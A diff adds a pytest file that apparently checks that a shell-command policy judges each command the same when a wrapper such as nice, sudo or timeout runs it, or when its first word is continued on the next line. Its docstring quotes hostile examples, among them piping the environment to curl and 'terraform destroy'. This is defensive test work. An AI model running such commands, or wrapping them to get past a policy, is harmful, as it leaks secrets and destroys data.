@@ -1,0 +1,58 @@
+"""How a command's program is reached does not change what the command does: every shell
+command of the shipped corpus is judged the same behind a program that runs it, with that
+program's options (``nice -n 10``, ``sudo -u deploy``, ``timeout -s KILL 60``: ``env |
+curl -d @- URL`` still sends the environment, and ``nice -n 10 echo "rm -rf /" >> notes.md``
+still only writes a note), and with its first word continued on the next line
+(``terraform \\<newline>destroy``)."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from tests.policies.test_wrapped_corpus import _shell_lines
+from tests.policies.verdicts import PROJECT, bash
+
+# A line's first word, when it names a program plainly (not a keyword, an assignment, a
+# function's definition or another shell's construct).
+_FIRST = re.compile(r"([a-z][a-z0-9_.-]*)(?= )")
+_NOT_PROGRAMS = frozenset({"if", "for", "while", "until", "case", "function", "export", "cd"})
+SPELLINGS = {
+    "nice": "nice -n 10 %s",
+    "stdbuf": "stdbuf -o0 %s",
+    "ionice": "ionice -c3 %s",
+    "setsid": "setsid %s",
+    "sudo as a user": "sudo -u deploy %s",
+    "timeout with a signal": "timeout -s KILL 60 %s",
+    "nohup": "nohup %s",
+    "env with a variable": "env LC_ALL=C %s",
+    "command": "command %s",
+}
+
+
+def _respelt(line: str, spelling: str) -> str | None:
+    """``line`` with its first command's program reached as ``spelling`` says; None when
+    the line does not start with a program's plain name."""
+    first = _FIRST.match(line)
+    if first is None or first[1] in _NOT_PROGRAMS:
+        return None
+    if spelling == "continued":
+        return f"{first[1]} \\\n{line[first.end() + 1 :]}"
+    return SPELLINGS[spelling] % line
+
+
+@pytest.mark.parametrize("spelling", [*SPELLINGS, "continued"])
+def test_a_shell_command_is_judged_the_same_however_its_program_is_reached(
+    spelling: str,
+) -> None:
+    changed = []
+    for case, line in _shell_lines():
+        respelt = _respelt(line, spelling)
+        if respelt is None:
+            continue
+        alone = bash(line, case.cwd or PROJECT)
+        reached = bash(respelt, case.cwd or PROJECT)
+        if (alone is None) != (reached is None):
+            changed.append(f"{case.id}: {alone} alone, {reached} as {respelt!r}")
+    assert not changed, "\n".join(changed)
